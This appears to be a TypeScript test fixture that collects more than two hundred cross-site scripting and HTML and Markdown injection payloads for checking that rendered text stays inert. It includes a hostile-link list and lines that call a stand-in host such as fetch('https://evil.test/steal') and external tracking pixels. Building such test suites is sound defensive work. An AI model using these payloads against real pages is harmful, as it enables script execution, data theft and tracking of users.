const scripts = [
  'alert(1)',
  'fetch("https://evil.test/steal")',
  'location="https://evil.test"',
  'document.title=1;alert(2)',
]

/** What runs a script where text is taken for HTML. */
const tags = (script: string) => [
  `<script>${script}</script>`,
  `<ScRiPt >${script}</sCrIpT>`,
  `<script src="https://evil.test/x.js"></script>`,
  `<img src=x onerror='${script}'>`,
  `<img/src="x"/onerror=${script}>`,
  `<svg onload='${script}'>`,
  `<svg/onload=${script}>`,
  `<svg><script>${script}</script></svg>`,
  `<svg><animate onbegin='${script}' attributeName=x dur=1s>`,
  `<math><mtext><img src=x onerror='${script}'></mtext></math>`,
  `<body onload='${script}'>`,
  `<details open ontoggle='${script}'>`,
  `<video><source onerror='${script}'></video>`,
  `<audio src=x onerror='${script}'></audio>`,
  `<input autofocus onfocus='${script}'>`,
  `<iframe srcdoc="<script>parent.${script}</script>"></iframe>`,
  `<iframe src='javascript:${script}'></iframe>`,
  `<object data='javascript:${script}'></object>`,
  `<embed src='javascript:${script}'>`,
  `<a href='javascript:${script}'>press</a>`,
  `<form action='javascript:${script}'><button>press</button></form>`,
  `<marquee onstart='${script}'>x</marquee>`,
]

/** Ends the attribute, element or string that may contain the text. */
const breakouts = (script: string) => [
  `"><img src=x onerror='${script}'>`,
  `'><img src=x onerror="${script}">`,
  `"><svg onload='${script}'>`,
  `" autofocus onfocus='${script}' x="`,
  `' onmouseover='${script}' x='`,
  `'-${script}-'`,
  `";${script};//`,
  `\`;${script};//`,
  '${' + script + '}',
  `{{constructor.constructor('${script}')()}}`,
  `</style><img src=x onerror='${script}'>`,
  `]]><img src=x onerror='${script}'>`,
  `--><img src=x onerror='${script}'>`,
]

/** Runs code or sends a request where text is rendered as Markdown. */
const markdown = (script: string) => [
  `[press](javascript:${script})`,
  `[press](JaVaScRiPt:${script})`,
  `[press](\u0001javascript:${script})`,
  `[press](data:text/html,<script>${script}</script>)`,
  `[press](vbscript:${script})`,
  `<javascript:${script}>`,
]

const standalone = [
  '![x](https://evil.test/pixel.png)',
  '![x](//evil.test/pixel.png)',
  '![x][l]\n\n[l]: https://evil.test/pixel.png',
  '[h]: javascript:alert(1)\n\n[h]',
  '<https://evil.test/"onmouseover=alert(1)>',
  '`<img src=x onerror=alert(1)>`',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '\\u003cimg src=x onerror=alert(1)\\u003e',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '＜script＞alert(1)＜/script＞',
  '\u202Ealert(1)\u202C',
  '<style>@import "https://evil.test/x.css"</style>',
  '<link rel=stylesheet href="https://evil.test/x.css">',
  '<link rel=preload as=image href="https://evil.test/x.png">',
  '<meta http-equiv=refresh content="0;url=https://evil.test">',
  '<base href="https://evil.test/">',
  '<form action="https://evil.test"><input name=x><button>press</button></form>',
  '<div style="background:url(https://evil.test/x.png)">x</div>',
  '<table background="https://evil.test/x.png"><tr><td>x</table>',
  '<img srcset="https://evil.test/x.png 1x">',
  '<picture><source srcset="https://evil.test/x.png"></picture>',
  '<svg><image href="https://evil.test/x.png"/></svg>',
  '<svg><use href="https://evil.test/x.svg#x"/></svg>',
  '<iframe src="https://evil.test"></iframe>',
  '<portal src="https://evil.test"></portal>',
  '<a ping="https://evil.test" href="/">press</a>',
  '<template><img src=x onerror=alert(1)></template>',
  '<dialog open><img src=x onerror=alert(1)></dialog>',
  '<div contenteditable autofocus onfocus=alert(1)>',
  '<xss id=x tabindex=1 onfocus=alert(1)></xss>',
  '<noscript><img src=x onerror=alert(1)></noscript>',
  '<isindex action=javascript:alert(1) type=image>',
  '<div id="root"></div><div id="app">clobbered</div>',
  '<img name=cookie><form name=body>',
  '__proto__[x]=<img src=x onerror=alert(1)>',
]

/** What swallows everything after it where it is taken for HTML, so that others would go unseen behind it. */
const unclosed = [
  '</title><script>alert(1)</script><title>',
  '</textarea><script>alert(1)</script>',
  '<!--',
  '<plaintext>',
  '<xmp>',
]

/** More than two hundred texts; each may only ever be shown as text. */
export const payloads: readonly string[] = [
  ...scripts.flatMap((script) => [...tags(script), ...breakouts(script), ...markdown(script)]),
  ...standalone,
  ...unclosed,
]

/** Addresses that must not become links. */
export const hostileAddresses = [
  'javascript:alert(1)',
  ' javascript:alert(1)',
  'JAVASCRIPT:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:alert(1)',
  'https://evil.test/"onmouseover="alert(1)',
]
